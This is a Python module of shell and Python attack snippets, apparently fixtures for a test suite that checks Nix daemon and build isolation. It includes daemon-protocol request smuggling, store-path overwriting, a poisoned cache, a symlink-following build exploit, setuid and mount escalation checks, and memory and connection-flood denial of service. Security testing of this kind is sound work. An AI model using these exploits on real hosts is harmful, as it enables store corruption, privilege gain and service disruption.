"""Pieces of shell that the attacks are made of: tools for jobs, and what the hosts have ready."""

from __future__ import annotations

from typing import Final

# Functions for the jobs' scripts. A builder has its shell alone; what else it needs it takes from the store.
TOOLS: Final = r"""
store_path() { readlink -f "$(command -v "$1")" | cut -d/ -f1-4; }
coreutils=$(store_path cat)
python=$(ls -d /nix/store/*-python3-*/bin/python3 | head -n 1 | cut -d/ -f1-4)
# derivation NAME SCRIPT [ATTRIBUTES]: writes NAME.nix
derivation() {
  cat > "$1.nix" <<NIX
derivation ({
  name = "$1-$stamp";
  system = builtins.currentSystem;
  builder = "/bin/sh";
  args = [ "-c" ''
    show() { while read -r line; do echo "\$line"; done < "\$1"; }
    $2
    echo done > \$out
  '' ];
} // { ${3-} })
NIX
}
# One with a fixed output, so that it has a network; its output is never right, its log is what counts.
fixed='outputHashMode = "flat"; outputHashAlgo = "sha256";
  outputHash = "0000000000000000000000000000000000000000000000000000";'
in_store() { echo "\${builtins.storePath \"$1\"}"; }
"""

# Marks on the host: one that anybody may read, one that only root may.
MARKS: Final = r"""
echo "open-mark-$stamp" > /etc/attack-mark
echo "root-mark-$stamp" > /root/attack-mark
chmod 0600 /root/attack-mark
"""

# A program in the store that leaves a file on the host with its uid in it.
HOOK: Final = r"""
cat > hook <<SH
#!/bin/sh
umask 0
while read -r key value rest; do [ "\$key" = Uid: ] && echo "\$value" > /var/tmp/attack-@NAME@-$stamp; done < /proc/self/status
exit 0
SH
chmod +x hook
hook=$(nix-store --add ./hook)
"""


def hook(name: str) -> str:
    return TOOLS + HOOK.replace("@NAME@", name)


BY_ROOT: Final = '[ "$(cat /var/tmp/attack-@NAME@-$stamp 2>/dev/null)" = 0 ]'

# Somebody else's output that nothing holds, as a job's is without us; and one that is held.
UNROOTED: Final = """
echo "unrooted $stamp @NAME@" > /tmp/unrooted-@NAME@
echo "victim=$(nix-store --add /tmp/unrooted-@NAME@)"
"""


def unrooted(name: str) -> str:
    return UNROOTED.replace("@NAME@", name)


# A path that nobody built or signed, as `nix-store --export` would write it.
POISON: Final = r"""
hash=$(printf '%s' "$stamp@NAME@" | sha256sum | tr -d e-z | tr -d 0-0 | cut -c1-32)
victim=/nix/store/$(printf '%s' "${hash}00000000000000000000000000000000" | cut -c1-32)-poison-@NAME@
echo "echo pwned" > poison
nix-store --dump ./poison > poison.nar
"""

EXPORT: Final = r"""
"$python/bin/python3" - "$victim" > export <<'PY'
import struct, sys
def number(n): return struct.pack("<Q", n)
def text(t): return number(len(t)) + t + b"\0" * (-len(t) % 8)
nar = open("poison.nar", "rb").read()
path = sys.argv[1].encode()
tail = number(0x4558494E) + text(path) + number(0) + text(b"") + number(0) + number(0)
sys.stdout.buffer.write(number(1) + nar + tail)
PY
"""

CACHE: Final = r"""
mkdir cache
echo 'StoreDir: /nix/store' > cache/nix-cache-info
cp poison.nar cache/poison.nar
cat > "cache/$(basename "$victim" | cut -c1-32).narinfo" <<INFO
StorePath: $victim
URL: poison.nar
Compression: none
NarHash: sha256:$(nix-hash --type sha256 --flat --base32 poison.nar)
NarSize: $(stat -c %s poison.nar)
INFO
echo "References: " >> "cache/$(basename "$victim" | cut -c1-32).narinfo"
"""

# Adds a path of its own content by AddToStoreNar, asking for one that is there to be written again ("repair"). No command
# of Nix does it. It stays until it is answered: a daemon drops what a client asked for that has gone.
ADD: Final = r"""
import socket, struct, sys
path, victim, nar_hash, address, contents = sys.argv[1:]
def number(value): return struct.pack("<Q", value)
def text(value): return number(len(value)) + value.encode() + b"\0" * (-len(value) % 8)
nar = b"".join(map(text, ("nix-archive-1", "(", "type", "regular", "contents", contents + "\n", ")")))
info = text(victim) + text("") + text(nar_hash) + number(0) * 2 + number(len(nar)) + number(0) * 2 + text(address)
daemon = socket.socket(socket.AF_UNIX)
daemon.connect(path)
daemon.sendall(number(0x6E697863) + number(0x121) + number(0) * 2)
daemon.sendall(number(39) + info + number(1) * 2 + number(len(nar)) + nar + number(0))
last, error, answer = number(0x616C7473), number(0x63787470), b""
while answer.count(last) < 2 and error not in answer:
    answer += daemon.recv(65536) or sys.exit("no answer")
"""

REPLACE: Final = (
    r"""
"$python/bin/python3" - /nix/var/nix/daemon-socket/socket "$victim" "$(nix-hash --type sha256 "$victim")" \
  "fixed:r:sha256:$(nix-hash --type sha256 --base32 "$victim")" pwned <<'PY'
"""
    + ADD
    + "PY\n"
)

# Makes the daemon err where it has not read a request to its end, and would take what follows for requests: those of nobody's
# judging. What follows asks for the roots of the whole host, or writes a path anew. tests/unit/sessions.py has the ways too.
SMUGGLE: Final = r"""
"$python/bin/python3" - "$way" "${victim-}" "$(nix-hash --type sha256 "${victim-/dev/null}" 2>/dev/null)" \
  "fixed:r:sha256:$(nix-hash --type sha256 --base32 "${victim-/dev/null}" 2>/dev/null)" <<'PY'
import socket, struct, sys
way, victim, nar_hash, address = sys.argv[1:]
def number(value): return struct.pack("<Q", value)
def text(value): return number(len(value)) + value.encode() + b"\0" * (-len(value) % 8)
path = "/nix/store/" + "0" * 32 + "-smuggled"
info = text(path) + text("") + text("0" * 64) + number(0) * 2 + number(8) + number(0) * 2 + text("")
add = number(7) + text("x") + text("fixed:nonsense" if way == "method" else "fixed:sha256") + number(0) * 2
if victim:
    nar = b"".join(map(text, ("nix-archive-1", "(", "type", "regular", "contents", "pwned\n", ")")))
    follows = number(39) + text(victim) + text("") + text(nar_hash) + number(0) * 2 + number(len(nar)) + number(0) * 2
    follows += text(address) + number(1) * 2 + number(len(nar)) + nar + number(0)
else:
    follows = number(14)
ways = {
    # No frame is read: its length is a request without fields (SyncWithGC), and what is in it the next one.
    "method": add + number(13) + number(14) + bytes(5) + bytes(8),
    "add-frame": add + number(2**32) * 2,
    "many-frame": number(44) + number(0) * 2 + number(2**32) * 2,
    "nar-frame": number(39) + info + number(0) * 2 + number(2**32),
}
daemon = socket.socket(socket.AF_UNIX)
daemon.settimeout(10)
daemon.connect("/nix/var/nix/daemon-socket/socket")
daemon.sendall(number(0x6E697863) + number(0x125) + number(0) * 2)
daemon.sendall(ways[way] + (b"" if way == "method" else follows + number(0) * 4))
answer = b""
try:
    while piece := daemon.recv(65536):
        answer += piece
        if b"/nix/var/nix/profiles/system" in answer:
            print("smuggled", flush=True)
            break
except OSError as error:
    print(error)
print("answered", len(answer), answer[-400:])
PY
"""

# Makes the store writable, or its bind alone (mount(2)); an image of ours has no program for it.
REMOUNT: Final = r"""
"$python/bin/python3" - <<'PY'
import ctypes, os
kernel = ctypes.CDLL(None, use_errno=True)
for flags in (32, 32 | 4096):
    print("remounted:", kernel.mount(None, b"/nix/store", None, flags, None) and os.strerror(ctypes.get_errno()))
PY
"""

# Who is not root any more runs a program of root's that is setuid. A volume would be mounted without; /tmp is the container's.
SETUID: Final = r"""
cp "$(readlink -f "$(command -v id)")" /tmp/setuid && chmod 4755 /tmp/setuid
"$python/bin/python3" - > uid <<'PY'
import os
os.setgroups([])
os.setgid(1000)
os.setuid(1000)
os.execv("/tmp/setuid", ["setuid", "-u"])
PY
echo "setuid gave $(cat uid)"
[ "$(cat uid)" = 0 ] && echo rights-gained
"""

# What CAP_SYS_ADMIN allows.
MOUNT: Final = r"""
"$python/bin/python3" - <<'PY'
import ctypes, os
kernel = ctypes.CDLL(None, use_errno=True)
failed = kernel.mount(b"none", b"/tmp", b"tmpfs", 0, None)
print("mount:", os.strerror(ctypes.get_errno()) if failed else "done")
print("" if failed else "has-mounted")
PY
"""

# Answers on the host's loopback, on an abstract socket, and on its address, where it writes down what it is told.
LISTENER: Final = r"""
cat > /run/attack-listener.py <<'PY'
import socket, sys, threading
stamp = sys.argv[1]
def serve(listener, answer):
    while True:
        peer, _ = listener.accept()
        try:
            answer(peer)
        finally:
            peer.close()
def tell(peer):
    peer.sendall(b"loopback-answer-" + stamp.encode() + b"\n")
def note(peer):
    data = peer.recv(65536)
    with open("/var/tmp/attack-headers-" + stamp, "ab") as file:
        file.write(data)
    peer.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
def listen(family, address):
    listener = socket.socket(family)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(address)
    listener.listen(16)
    return listener
for family, address, answer in (
    (socket.AF_INET, ("127.0.0.1", 9871), tell),
    (socket.AF_UNIX, "\0nixprov-attack", tell),
    (socket.AF_INET, ("0.0.0.0", 9872), note),
):
    threading.Thread(target=serve, args=(listen(family, address), answer)).start()
PY
systemctl stop attack-listener 2>/dev/null
systemctl reset-failed attack-listener 2>/dev/null
systemd-run --quiet --collect --unit=attack-listener \
  "$(ls -d /nix/store/*-python3-*/bin/python3 | head -n 1)" /run/attack-listener.py "$stamp"
"""

CONNECT: Final = r"""
connect() { # NAME PYTHON-EXPRESSION-OF-A-CONNECTED-SOCKET [ATTRIBUTES]
  cat > connect.py <<PY
import socket
s = $2
s.settimeout(5)
print(s.recv(100).decode(), flush=True)
PY
  program=$(nix-store --add ./connect.py)
  derivation "$1" "$(in_store "$python")/bin/python3 $(in_store "$program") 2>&1" "${3-}"
  nix-build --no-out-link "$1.nix" 2>&1 | sed "s/^.*> //"
}
"""

# Two fixed-output builds of two connections: one listens, and when it says so the other one comes.
MEET: Final = r"""
meet() { # NAME FAMILY ADDRESS
  cat > listen.py <<PY
import socket
s = socket.socket(socket.$2)
s.bind($3)
s.listen()
print("listening", flush=True)
s.settimeout(120)
peer, _ = s.accept()
peer.sendall(b"met-another-build")
peer.close()
PY
  cat > come.py <<PY
import socket
s = socket.socket(socket.$2)
s.settimeout(10)
s.connect($3)
print(s.recv(100).decode(), flush=True)
PY
  for part in listen come; do
    program=$(nix-store --add ./$part.py)
    derivation "$part-$1" "$(in_store "$python")/bin/python3 $(in_store "$program") 2>&1" "$fixed"
  done
  nix-build --no-out-link "listen-$1.nix" > listen.log 2>&1 &
  until grep -q listening listen.log || ! kill -0 $!; do sleep 0.1; done
  grep -o listening listen.log
  nix-build --no-out-link "come-$1.nix" 2>&1 | sed "s/^.*> //"
  kill $!
  wait
}
"""

# The host's own and its manager's environment, and what the host's Nix knows of passwords, lends to its own builds and
# signs them with. Both daemons start anew.
LENT: Final = r"""
systemctl set-environment "NIXPROV_ATTACK=environment-$stamp"
address=$(cat /proc/net/fib_trie | sed -n 's/.*|-- \(10\..*\.1[0-9]\)$/\1/p' | head -n 1)
printf 'machine %s login attacker password secret-%s\n' "$address" "$stamp" > /etc/nix/netrc
[ -e /etc/nix/owner-key ] ||
  (umask 077; nix --extra-experimental-features nix-command key generate-secret --key-name owner > /etc/nix/owner-key)
grep -vE 'impure-env|owner-key' /etc/nix/nix.conf > /etc/nix/nix.conf.new
cat >> /etc/nix/nix.conf.new <<CONF
extra-experimental-features = configurable-impure-env recursive-nix
impure-env = NIXPROV_LENT=lent-$stamp
secret-key-files = /etc/nix/owner-key
CONF
mv -f /etc/nix/nix.conf.new /etc/nix/nix.conf
systemctl restart nix-daemon.service
systemctl stop nixprov-nix-daemon.service
echo "address=$address"
"""

# Says how much memory a process of a Nix daemon has held at most, while the jobs of this moment run.
MEMORY_WATCH: Final = r"""
cat > /run/attack-memory.sh <<'SH'
until [ -e /run/attack-memory-stop ]; do
  for status in /proc/[0-9]*/status; do
    awk '$1 == "Name:" && $2 !~ /^nix/ { exit } $1 == "VmHWM:" { print $2 }' "$status" 2>/dev/null
  done | sort -n | tail -n 1 >> /run/attack-memory
  sleep 0.2
done
SH
rm -f /run/attack-memory /run/attack-memory-stop
systemd-run --quiet --collect --unit=attack-memory "$(readlink -f /bin/sh)" /run/attack-memory.sh
"""

# A text of half a GiB is announced, with nothing behind it but patience.
ANNOUNCE: Final = r"""
"$python/bin/python3" - <<'PY'
import socket, struct, time
def number(value): return struct.pack("<Q", value)
daemon = socket.socket(socket.AF_UNIX)
daemon.connect("/nix/var/nix/daemon-socket/socket")
daemon.sendall(number(0x6E697863) + number(0x125) + number(0) * 2 + number(1) + number(1 << 29))
print("announced", flush=True)
time.sleep(5)
PY
"""

# Connections of processes that end before anybody looks whose they are.
ENDED: Final = r"""
"$python/bin/python3" - <<'PY'
import os, socket, struct
held = []
for _ in range(150):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(10)
    child = os.fork()
    if child == 0:
        s.connect("/nix/var/nix/daemon-socket/socket")
        os._exit(0)
    os.waitpid(child, 0)
    try:
        s.sendall(struct.pack("<Q", 0x6E697863))
        if s.recv(8):
            held.append(s)
    except OSError:
        pass
print("connections", len(held))
# The share of a container, and the share of all whom nobody knows.
if len(held) > 64 + 16:
    print("flooded")
PY
"""
# A fixed-output build whose output the daemon copies to where a link of the builder's points (CVE-2026-39860).
THROUGH_A_LINK: Final = r"""
target="@TARGET@"
derivation through "c=$(in_store $coreutils)/bin; echo pwned-$stamp > \$out; \$c/ln -s $target \$out.tmp; \$c/ls -l \$out.tmp; exit 0" "$fixed"
nix-build --no-out-link through.nix
"""


def through_a_link(target: str) -> str:
    return TOOLS + THROUGH_A_LINK.replace("@TARGET@", target)


# The same from the protocol's bytes: no command of Nix asks for the build.
THROUGH_A_LINK_BY_BYTES: Final = (
    THROUGH_A_LINK.replace("nix-build --no-out-link through.nix", "drv=$(nix-instantiate through.nix)")
    + r"""
"$python/bin/python3" - "$drv" <<'PY'
import re, socket, struct, sys
def number(value): return struct.pack("<Q", value)
def text(value): return number(len(value)) + value.encode() + b"\0" * (-len(value) % 8)
daemon = socket.socket(socket.AF_UNIX)
daemon.settimeout(60)
daemon.connect("/nix/var/nix/daemon-socket/socket")
daemon.sendall(number(0x6E697863) + number(0x125) + number(0) * 2)
daemon.sendall(number(9) + number(1) + text(sys.argv[1] + "!out") + number(0))
answer = b""
while number(0x63787470) not in answer:
    answer += daemon.recv(65536) or sys.exit("no answer")
for words in re.findall(rb"[ -~]{8,}", answer):
    print(words.decode(), flush=True)
PY
"""
)

# More builders than there are processors: each says when it starts and ends, the job counts the most at a time.
MANY_BUILDERS: Final = r"""
count=$(($(nproc) + 2))
for n in $(seq $count); do
  derivation "par$n" "c=$(in_store $coreutils)/bin; echo \"at \$(\$c/date +%s%N) 1\"; \$c/sleep 5; echo \"at \$(\$c/date +%s%N) -1\""
done
nix-build -j 16 --no-out-link par*.nix 2>&1 | sed -n 's/^.*at \([0-9]*\) \(-*1\)$/\1 \2/p' | sort -n > stamps
most=$(awk '{ now += $2; if (now > most) most = now } END { print most }' stamps)
echo "at most $most of $count at once"
[ "$most" -gt "$(nproc)" ] && echo too-many-at-once
"""

PREPARE: Final = MARKS + LISTENER + LENT
